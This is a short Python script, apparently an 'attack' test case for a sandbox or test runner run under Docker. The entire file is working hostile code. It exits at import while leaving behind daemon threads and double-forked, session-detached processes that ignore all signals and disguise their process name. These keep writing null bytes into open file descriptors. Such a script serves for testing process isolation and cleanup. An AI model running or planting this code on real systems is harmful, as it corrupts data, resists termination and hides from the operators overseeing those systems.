# /// attack
# tries = "exits at import and leaves threads, processes and timers that go on writing to everything"
# docker = true
# ///
import ctypes
import os
import signal
import threading
import time

NAME = b"@token@"[:15]


def go_on():
    ctypes.CDLL(None).prctl(15, NAME, 0, 0, 0)
    while True:
        for number in range(3, 32):
            try:
                os.write(number, b"\0" * 64)
            except OSError:
                pass
        time.sleep(0.01)


for _ in range(4):
    threading.Thread(target=go_on, daemon=True).start()
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        if os.fork() == 0:
            go_on()
        os._exit(0)
raise SystemExit(0)
